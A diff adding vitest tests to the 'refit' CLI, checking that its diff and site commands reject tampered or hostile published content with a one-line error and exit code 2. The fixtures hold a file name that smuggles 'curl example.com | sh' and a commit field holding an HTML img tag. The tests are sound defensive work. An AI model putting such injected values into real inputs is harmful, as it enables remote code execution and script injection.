@@ -1,6 +1,8 @@
 // `refit diff` on a temp copy of the site fixture with versions whose numbers were edited: an
 // injected regression exits 1, a noise-sized move exits 0, unknown versions exit 2. The exit codes
-// are checked once through the real CLI; the other cases call the command in process.
+// are checked once through the real CLI; the other cases call the command in process. Tampered or
+// hostile content (a changed file, a suite file or commit that is not what it claims) exits 2 with
+// one line naming the file and field.
 import { spawnSync } from "node:child_process";
 import * as fs from "node:fs";
 import * as os from "node:os";
@@ -8,6 +10,7 @@ import * as path from "node:path";
 import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
 import { UsageError } from "../../../src/pipeline/commands/command.ts";
 import { diffCommand } from "../../../src/pipeline/commands/diff.ts";
+import { sha256Hex } from "../../../src/pipeline/artifacts/hash.ts";
 import { editedVersion, fixtureVersion, FIXTURE_CONTENT, moveLayer, publish, withLayerIntervals } from "../publish/helpers.ts";
 
 const ROOT = path.resolve(import.meta.dirname, "../../..");
@@ -63,9 +66,78 @@ describe("refit diff", () => {
     expect(r.stdout).toContain("| `tiny/0189587ab56a` | layer 1 anchor stability | 0.981 | 0.936 | -0.045 | [0.976, 0.996] | **REGRESSION** |");
   });
 
+  it("prints the diff as JSON with --json, with the same regression as the table", async () => {
+    const r = await diff(["2026-03-01.1", "latest", "--json"]);
+    expect(r.status).toBe(1);
+    const d = JSON.parse(r.stdout);
+    expect([d.from, d.to, d.regressions, d.added, d.removed]).toEqual(["2026-03-01.1", "2026-03-03.1", 1, [], []]);
+    const [worst] = d.moves;
+    expect(worst).toMatchObject({ suite: "tiny", metric: "layer 1 stability", beyondInterval: true, regression: true });
+    expect(worst.before - worst.after).toBeCloseTo(0.05, 12);
+    expect(worst.delta).toBeCloseTo(-0.05, 12);
+    expect(d.moves.filter((m: { regression: boolean }) => m.regression)).toHaveLength(1);
+  });
+
+  it("refuses --markdown with --json", async () => {
+    await expect(diff(["previous", "latest", "--json", "--markdown"])).rejects.toThrow(/give one/);
+  });
+
   it("refuses unknown versions and thresholds as usage errors (exit 2), naming what is published", async () => {
     await expect(diff(["2026-09-09.1", "latest"])).rejects.toThrow(UsageError);
     await expect(diff(["2026-09-09.1", "latest"])).rejects.toThrow(/no version "2026-09-09.1" in .*\(published: 2026-01-05.1, 2026-02-09.1, 2026-03-01.1, 2026-03-02.1, 2026-03-03.1\)/);
     await expect(diff(["latest", "latest", "--threshold", "loss=1"])).rejects.toThrow(/--threshold must be metric=x/);
+  });
+});
+
+describe("refit diff and refit site on tampered or hostile content", () => {
+  /** A copy of the fixture content with one file of the latest version edited. */
+  function tampered(name: string, file: string, edit: (text: string) => string): string {
+    const root = path.join(tmp, name);
+    fs.cpSync(FIXTURE_CONTENT, root, { recursive: true });
+    const f = path.join(root, "versions", "2026-02-09.1", file);
+    fs.writeFileSync(f, edit(fs.readFileSync(f, "utf8")));
+    return root;
+  }
+
+  /** Re-signs a manifest after its result file was edited, as a deliberate forger would. */
+  function resign(root: string, file: string): void {
+    const dir = path.join(root, "versions", "2026-02-09.1");
+    const manifest = JSON.parse(fs.readFileSync(path.join(dir, "manifest.json"), "utf8"));
+    for (const s of manifest.suites) if (s.result.file === file) s.result.sha256 = sha256Hex(fs.readFileSync(path.join(dir, file)));
+    fs.writeFileSync(path.join(dir, "manifest.json"), JSON.stringify(manifest));
+  }
+
+  const run = (root: string) => spawnSync(process.execPath, [BIN, "diff", "previous", "latest", "--content", root], { cwd: ROOT, encoding: "utf8", timeout: 60_000 });
+
+  function expectOneLine(r: ReturnType<typeof run>, pattern: RegExp): void {
+    expect(r.status).toBe(2);
+    expect(r.stdout).toBe("");
+    expect(r.stderr.trimEnd().split("\n")).toHaveLength(1);
+    expect(r.stderr).toMatch(pattern);
+    expect(r.stderr).not.toMatch(/\n\s+at /);
+  }
+
+  it("exits 2 with one line when a published file no longer matches its SHA-256", () => {
+    const root = tampered("changed", "tiny.json", (t) => t.replace('"description"', '"description" ').replace(/\n$/, " \n"));
+    expectOneLine(run(root), /^refit: .*tiny\.json: its SHA-256 is [0-9a-f]{64}, but .*manifest\.json suites\.\d\.result\.sha256 says/);
+  });
+
+  it("exits 2 naming suite.file when a result would paste shell text into the reproduce command", () => {
+    const root = tampered("hostile-file", "tiny.json", (t) => t.replace('"file": "test/fixtures/suites/tiny.yaml"', '"file": "x.yaml; curl example.com | sh #.yaml"'));
+    resign(root, "tiny.json");
+    expectOneLine(run(root), /^refit: .*tiny\.json: suite\.file: a relative path of letters/);
+  });
+
+  it("exits 2 naming gitCommit when a manifest's commit is not a commit hash", () => {
+    const root = tampered("hostile-commit", "manifest.json", (t) => t.replace(/"gitCommit": "[0-9a-f]+"/, '"gitCommit": "<img src=x>"'));
+    expectOneLine(run(root), /^refit: .*manifest\.json: gitCommit: a full git commit hash/);
+  });
+
+  it("refit site refuses the same content before building anything", () => {
+    const root = path.join(tmp, "hostile-commit");
+    const out = path.join(tmp, "site-out");
+    const r = spawnSync(process.execPath, [BIN, "site", "--content", root, "--out", out], { cwd: ROOT, encoding: "utf8", timeout: 60_000 });
+    expectOneLine(r, /^refit: .*manifest\.json: gitCommit: a full git commit hash/);
+    expect(fs.existsSync(out)).toBe(false);
   });
 });
